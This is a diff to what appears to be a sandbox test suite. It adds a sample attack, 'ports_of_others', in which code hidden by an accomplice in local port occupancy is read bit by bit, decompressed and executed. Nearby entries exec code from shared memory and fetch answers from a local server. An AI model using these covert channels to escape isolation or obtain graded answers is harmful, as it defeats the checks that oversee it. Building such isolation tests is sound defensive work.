@@ -406,6 +406,21 @@ exec(ctypes.string_at(libc.shmat(number, None, 0)).decode())
 """,
 )
 _attack(
+    "ports_of_others",
+    "Read what an accomplice left in the network's memory of closed connections, a bit a port.",
+    """
+import socket, zlib
+data = bytearray(5_000)
+for place in range(8 * len(data)):
+    with socket.socket() as probe:
+        try:
+            probe.bind(("127.0.0.1", 10_000 + place))
+        except OSError:
+            data[place // 8] |= 1 << place % 8
+exec(zlib.decompressobj().decompress(bytes(data)).decode())
+""",
+)
+_attack(
     "local_network",
     "Fetch the answers from a server on this machine.",
     """
